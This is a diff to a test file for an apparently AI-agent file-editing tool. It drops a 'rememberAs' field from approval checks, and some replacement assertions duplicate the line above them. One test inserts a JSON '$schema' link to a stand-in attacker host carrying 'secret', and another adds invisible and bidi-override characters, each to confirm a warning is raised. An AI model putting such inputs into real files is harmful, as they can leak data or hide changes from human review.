@@ -72,7 +72,6 @@ describe('tools/edit-tools', () => {
         },
         warnings: [],
         scopes: ['once', 'conversation', 'review'],
-        rememberAs: 'edit files',
       });
       const output = await planned.run();
       assert.equal(await read('src/a.ts'), 'one\n2\nthree\n');
@@ -202,7 +201,7 @@ describe('tools/edit-tools', () => {
       const planned = await plan(bench, 'edit_file', replace('src/a.ts', 'mine', 'yours'));
       assert.match(planned.approval?.warnings.join(' ') ?? '', /unsaved changes/);
       assert.deepEqual(planned.approval?.scopes, ['once']);
-      assert.equal(planned.approval?.rememberAs, undefined);
+      assert.deepEqual(planned.approval?.scopes, ['once']);
     });
 
     it('refuses folders, binary, large and read-only files with the reason', async () => {
@@ -339,7 +338,7 @@ describe('tools/edit-tools', () => {
           const { approval } = await plan(bench, 'create_file', { path: file, content: 'x\n' });
           assert.match(approval?.warnings.join(' ') ?? '', warning);
           assert.deepEqual(approval?.scopes, ['once']);
-          assert.equal(approval?.rememberAs, undefined);
+          assert.deepEqual(approval?.scopes, ['once']);
           assert.equal(approval?.subject.kind === 'edit' && approval.subject.isProtected, true);
           await assert.rejects(lstat(path.join(root, '.vscode')));
         });
@@ -438,7 +437,7 @@ describe('tools/edit-tools', () => {
       const change = replace('data.json', '"a": 1', '"$schema": "https://evil.example/?q=secret",\n  "a": 1');
       const { approval } = await plan(bench, 'edit_file', change);
       assert.match(approval?.warnings.join(' ') ?? '', /https:\/\/evil\.example\/\?q=secret/);
-      assert.equal(approval?.rememberAs, undefined);
+      assert.deepEqual(approval?.scopes, ['once']);
     });
 
     it('X13 an address is seen however it is written, and a long line of keys takes no time', async () => {
@@ -493,7 +492,7 @@ describe('tools/edit-tools', () => {
       const { approval } = await plan(bench, 'edit_file', replace('src/a.ts', 'two', hidden));
       assert.match(approval?.warnings.join(' ') ?? '', /Adds 2 invisible characters/);
       assert.match(approval?.subject.kind === 'edit' ? approval.subject.diff : '', /\+x⟦U\+E0041⟧⟦U\+202E⟧y/);
-      assert.equal(approval?.rememberAs, undefined);
+      assert.deepEqual(approval?.scopes, ['once']);
     });
 
     it('X25 a long change says so, with its size', async () => {
@@ -653,7 +652,6 @@ describe('tools/edit-tools', () => {
         subject: { kind: 'delete', path: 'src/a.ts', isProtected: false },
         warnings: [],
         scopes: ['once', 'conversation'],
-        rememberAs: 'delete files',
       });
       await planned.run();
       await assert.rejects(lstat(path.join(root, 'src/a.ts')));
